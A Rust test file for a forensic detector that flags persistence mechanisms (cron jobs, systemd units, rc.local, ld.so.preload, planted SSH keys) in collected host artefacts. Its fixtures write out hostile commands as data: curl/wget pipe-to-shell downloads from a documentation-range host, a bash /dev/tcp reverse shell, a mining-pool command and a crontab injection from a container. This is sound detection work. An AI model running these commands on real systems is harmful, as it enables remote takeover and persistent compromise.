//! Ways to come back: told where what is started is not the owner's, quiet where everybody has the same.

#![allow(clippy::indexing_slicing, reason = "a test may fail loudly")]

mod chinese;
mod dataset;

use chrono_tz::Tz;
use coldcase_correlate::{CaseFacts, Indicator, IndicatorType};
use coldcase_model::{
    Attributes, Event, Finding, Precision, Severity, Timestamp, When, action, outcome,
};
use coldcase_timeline::Origin;

const START: i64 = 1_677_600_000;
const DAY: i64 = 86_400;

struct Row {
    event: Event<'static>,
    file: &'static str,
}

fn row(
    action: &'static str,
    file: &'static str,
    fill: impl FnOnce(&mut Event<'static>, &mut Attributes),
) -> Row {
    let mut event = Event::new(action);
    let mut attributes = Attributes::new();
    fill(&mut event, &mut attributes);
    event.attributes = attributes.finish().map(Into::into);
    let command = event.command.clone().or(event.path.clone());
    event.message = event.message.or(command);
    Row { event, file }
}

fn at(seconds: i64) -> Option<When> {
    Timestamp::from_seconds(seconds).map(|ts| When::recorded(ts, Precision::S))
}

fn job(command: &'static str) -> Row {
    row(action::JOB_LISTED, "h/cron", |event, attributes| {
        event.command = Some(command.into());
        event.user = Some("root".into());
        event.path = Some("/var/spool/cron/root".into());
        attributes
            .text("kind", "cron")
            .text("schedule", "*/5 * * * *");
    })
}

fn cron_run(command: &'static str, seconds: i64) -> Row {
    row(action::CRON_RUN, "h/cron.log", |event, _| {
        event.when = at(seconds);
        event.command = Some(command.into());
        event.user = Some("root".into());
    })
}

fn unit(command: &'static str, path: &'static str) -> Row {
    row(action::SERVICE_DEFINED, "h/units", |event, attributes| {
        event.command = Some(command.into());
        event.path = Some(path.into());
        attributes
            .text("directive", "ExecStart")
            .text("unit", "x.service");
    })
}

fn typed(command: &'static str) -> Row {
    row(action::SHELL_COMMAND, "h/history", |event, _| {
        event.command = Some(command.into());
        event.user = Some("root".into());
    })
}

fn script(file: &'static str, path: &'static str, command: &'static str) -> Row {
    row(action::SCRIPT_COMMAND, file, |event, _| {
        event.command = Some(command.into());
        event.path = Some(path.into());
    })
}

fn key(user: &'static str, fingerprint: &'static str) -> Row {
    row(action::KEY_LISTED, "h/keys", |event, attributes| {
        event.user = Some(user.into());
        let home = if user == "root" {
            "/root".to_owned()
        } else {
            format!("/home/{user}")
        };
        event.path = Some(format!("{home}/.ssh/authorized_keys").into());
        attributes
            .text("fingerprint", fingerprint)
            .text("comment", "someone@somewhere");
    })
}

fn library(path: &'static str) -> Row {
    row(action::PRELOAD_LISTED, "h/ld.so.preload", |event, _| {
        event.path = Some(path.into())
    })
}

fn file(path: &'static str, seconds: i64) -> Row {
    row(action::FILE_MODIFIED, "h/ls", |event, _| {
        event.when = at(seconds);
        event.path = Some(path.into());
        event.bytes = Some(120);
    })
}

fn login(seconds: i64, from: &'static str, success: bool, by_key: Option<&'static str>) -> Row {
    row(action::SSH_LOGIN, "h/secure", |event, attributes| {
        event.when = at(seconds);
        event.src_ip = Some(from.into());
        event.src_port = Some(4000 + u16::try_from(seconds % 9000).expect("a port"));
        event.user = Some("root".into());
        event.pid = Some(seconds);
        event.outcome = Some(if success {
            outcome::SUCCESS
        } else {
            outcome::FAILURE
        });
        attributes
            .text(
                "method",
                if by_key.is_some() {
                    "publickey"
                } else {
                    "password"
                },
            )
            .text_if("key", by_key);
    })
}

fn find(rows: &[Row]) -> Vec<Finding> {
    find_with(rows, &[])
}

fn find_with(rows: &[Row], bad: &[&str]) -> Vec<Finding> {
    let (_folder, timeline) = dataset::timeline(|batch| {
        for (row, line) in rows.iter().zip(1..) {
            let event = Event {
                line: Some(line),
                ..row.event.clone()
            };
            batch.push(
                &event,
                Origin {
                    host: Some("h"),
                    format: "any",
                    file: row.file,
                },
            );
        }
    });
    let indicator = |value: &&str| Indicator {
        kind: IndicatorType::Ip,
        value: (*value).to_owned(),
    };
    let facts = CaseFacts {
        skews: Vec::new(),
        hosts: Vec::new(),
        zone: Tz::UTC,
        collected_at: None,
        indicators: bad.iter().map(indicator).collect(),
        coverage: Vec::new(),
    };
    let only = ["persistence".to_owned()];
    chinese::run(&timeline, &facts, &only)
        .expect("runs")
        .findings
}

/// Kind, severity and reasons of the only finding.
fn only(rows: &[Row]) -> (String, Severity, Vec<String>) {
    let found = find(rows);
    assert_eq!(found.len(), 1, "{found:?}");
    let facts = &found[0].facts;
    let reasons = facts["reasons"].as_array().expect("a list");
    let reasons = reasons
        .iter()
        .map(|word| word.as_str().expect("a word").to_owned());
    let kind = facts["kind"].as_str().expect("a kind").to_owned();
    (kind, found[0].severity, reasons.collect())
}

#[test]
fn each_way_with_its_signs() {
    let check = |rows: &[Row], kind: &str, severity: Severity, reasons: &[&str]| {
        let (found, weight, words) = only(rows);
        assert_eq!((found.as_str(), weight), (kind, severity), "{words:?}");
        assert_eq!(words, reasons);
    };
    let (high, medium, low) = (Severity::High, Severity::Medium, Severity::Low);
    check(
        &[job("curl -fsSL http://203.0.113.9/a.sh | sh")],
        "cron",
        high,
        &["download-and-run", "public-address"],
    );
    check(
        &[job("curl -fsSL https://get.example/a.sh | sh")],
        "cron",
        medium,
        &["download-and-run"],
    );
    check(
        &[job("curl -s http://10.0.0.5/agent.sh | sh")],
        "cron",
        low,
        &["download-and-run"],
    );
    check(
        &[job("/var/tmp/.x/run")],
        "cron",
        medium,
        &["hidden-path", "tmp-path"],
    );
    check(&[job("/tmp/cleanup.sh")], "cron", low, &["tmp-path"]);
    check(
        &[job("/usr/bin/.upd -o stratum+tcp://203.0.113.77:5555")],
        "cron",
        high,
        &["hidden-path", "miner-command"],
    );
    check(
        &[unit("/usr/bin/.xfsmond", "/etc/systemd/system/x.service")],
        "systemd",
        medium,
        &["hidden-path"],
    );
    check(
        &[unit("/dev/shm/agent", "/etc/systemd/system/x.service")],
        "systemd",
        medium,
        &["tmp-path"],
    );
    check(
        &[unit(
            "bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'",
            "/etc/systemd/system/x.service",
        )],
        "systemd",
        high,
        &["reverse-shell"],
    );
    check(
        &[script(
            "h/rc.local",
            "/etc/rc.local",
            "nohup /tmp/.a >/dev/null 2>&1 &",
        )],
        "rc",
        high,
        &["hidden-path", "tmp-path"],
    );
    check(
        &[library("/usr/local/lib/libprocesshider.so")],
        "ld-preload",
        high,
        &["known-rootkit", "preload"],
    );
    check(
        &[library("/opt/vendor/libagent.so")],
        "ld-preload",
        medium,
        &["preload"],
    );
    check(
        &[file("/etc/cron.d/.sys", START)],
        "cron",
        low,
        &["hidden-path"],
    );
    check(
        &[file("/etc/ld.so.preload", START)],
        "ld-preload",
        low,
        &["preload"],
    );
}

#[test]
fn ordinary_estates_are_quiet() {
    let rows = vec![
        job("/usr/bin/certbot renew -q"),
        job("/usr/lib64/sa/sa1 1 1"),
        job("/usr/local/sbin/backup.sh >/var/log/backup.log 2>&1"),
        job("/usr/local/qcloud/stargate/admin/start.sh > /dev/null 2>&1 &"),
        job("flock -xn /tmp/stargate.lock -c '/usr/local/qcloud/stargate/admin/start.sh'"),
        cron_run("run-parts /etc/cron.hourly", START),
        cron_run("command -v debian-sa1 > /dev/null && debian-sa1 1 1", START),
        unit(
            "/usr/bin/dockerd -H fd://",
            "/usr/lib/systemd/system/docker.service",
        ),
        unit(
            "/usr/sbin/zabbix_agentd -c /etc/zabbix/zabbix_agentd.conf",
            "/usr/lib/systemd/system/zabbix-agent.service",
        ),
        typed("crontab -l"),
        typed("vi /etc/crontab"),
        typed("systemctl enable --now node_exporter"),
        typed("cp node_exporter.service /etc/systemd/system/"),
        typed("echo 'ssh-ed25519 AAAA ops@corp' >> ~/.ssh/authorized_keys"),
        key("root", "SHA256:ops"),
        key("deploy", "SHA256:ops"),
        key("ansible", "SHA256:ops"),
        file("/root/.ssh/authorized_keys", START),
        file("/etc/cron.d/.placeholder", START),
        file("/etc/cron.d/sysstat", START),
        library("/usr/lib/libsnoopy.so"),
        script(
            "h/rc.local",
            "/etc/rc.local",
            "touch /var/lock/subsys/local",
        ),
        script("h/profile", "/etc/profile.d/lang.sh", ". /etc/locale.conf"),
        login(START, "198.51.100.7", true, Some("SHA256:ops")),
    ];
    let found = find(&rows);
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn one_job_told_by_several_artifacts_is_one_finding() {
    let line = "curl -fsSL http://203.0.113.9/a.sh | sh";
    let rows = vec![
        job(line),
        cron_run(line, START),
        cron_run(line, START + 300),
        typed(
            "(crontab -l; echo '*/5 * * * * curl -fsSL http://203.0.113.9/a.sh | sh') | crontab -",
        ),
    ];
    let found = find(&rows);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].facts["records"], 4);
    assert_eq!(found[0].facts["path"], "/var/spool/cron/root");
    assert_eq!(found[0].evidence.len(), 4);
}

#[test]
fn cron_s_log_tells_of_a_table_that_nobody_collected() {
    let (kind, severity, _) = only(&[cron_run("wget -q -O- http://203.0.113.9/x | bash", START)]);
    assert_eq!((kind.as_str(), severity), ("cron", Severity::High));
}

#[test]
fn a_container_that_writes_into_the_host_s_root() {
    let container = row(action::CONTAINER_LISTED, "h/inspect", |event, _| {
        event.container = Some("quirky".into());
        event.command = Some(
            "sh -c \"echo '* * * * * root curl http://203.0.113.9/a|sh' >> /mnt/etc/crontab\""
                .into(),
        );
    });
    let found = find(&[container]);
    assert_eq!((found.len(), found[0].severity), (1, Severity::High));
    assert_eq!(found[0].facts["path"], "/mnt/etc/crontab");
}

#[test]
fn a_key_that_a_miner_s_script_plants() {
    let rows = [
        script(
            "h/a.sh",
            "h/a.sh",
            "curl -fsSL http://203.0.113.9/x -o /usr/bin/x; chmod +x /usr/bin/x",
        ),
        script(
            "h/a.sh",
            "h/a.sh",
            "echo 'ssh-rsa AAAA root@x' >> /root/.ssh/authorized_keys",
        ),
    ];
    let (kind, severity, reasons) = only(&rows);
    assert_eq!((kind.as_str(), severity), ("ssh-key", Severity::Medium));
    assert_eq!(reasons, ["new-key", "planted-by-script"]);
}

/// Forty guesses, the last of them right.
fn break_in(from: &'static str) -> Vec<Row> {
    let mut rows: Vec<Row> = (0..40)
        .map(|turn| login(START + turn * 5, from, false, None))
        .collect();
    rows.push(login(START + 300, from, true, None));
    rows
}

#[test]
fn keys_after_a_break_in() {
    let mut rows = break_in("203.0.113.9");
    rows.push(key("root", "SHA256:new"));
    rows.push(key("ops", "SHA256:ops"));
    rows.push(file("/root/.ssh/authorized_keys", START + 900));
    rows.push(file("/home/ops/.ssh/authorized_keys", START - 90 * DAY));
    let (kind, severity, reasons) = only(&rows);
    assert_eq!((kind.as_str(), severity), ("ssh-key", Severity::Medium));
    assert_eq!(reasons, ["after-break-in", "new-key"]);
    // The intruder comes back with it.
    rows.push(login(START + DAY, "203.0.113.9", true, Some("SHA256:new")));
    let (_, severity, reasons) = only(&rows);
    assert_eq!(severity, Severity::High);
    assert_eq!(reasons, ["after-break-in", "new-key", "used-by-attacker"]);
}

#[test]
fn a_change_long_after_a_break_in_is_another_matter() {
    let mut rows = break_in("203.0.113.9");
    rows.push(key("root", "SHA256:new"));
    rows.push(file("/root/.ssh/authorized_keys", START + 60 * DAY));
    assert!(find(&rows).is_empty());
}

#[test]
fn a_key_for_an_account_that_nobody_logs_into() {
    let (kind, severity, reasons) = only(&[key("redis", "SHA256:x")]);
    assert_eq!((kind.as_str(), severity), ("ssh-key", Severity::Medium));
    assert_eq!(reasons, ["service-account"]);
}

#[test]
fn an_indicator_in_a_job_counts() {
    let found = find_with(
        &[job("curl -s http://203.0.113.9/beat > /dev/null")],
        &["203.0.113.9"],
    );
    assert_eq!((found.len(), found[0].severity), (1, Severity::Medium));
    assert_eq!(found[0].facts["reasons"][0], "indicator");
}
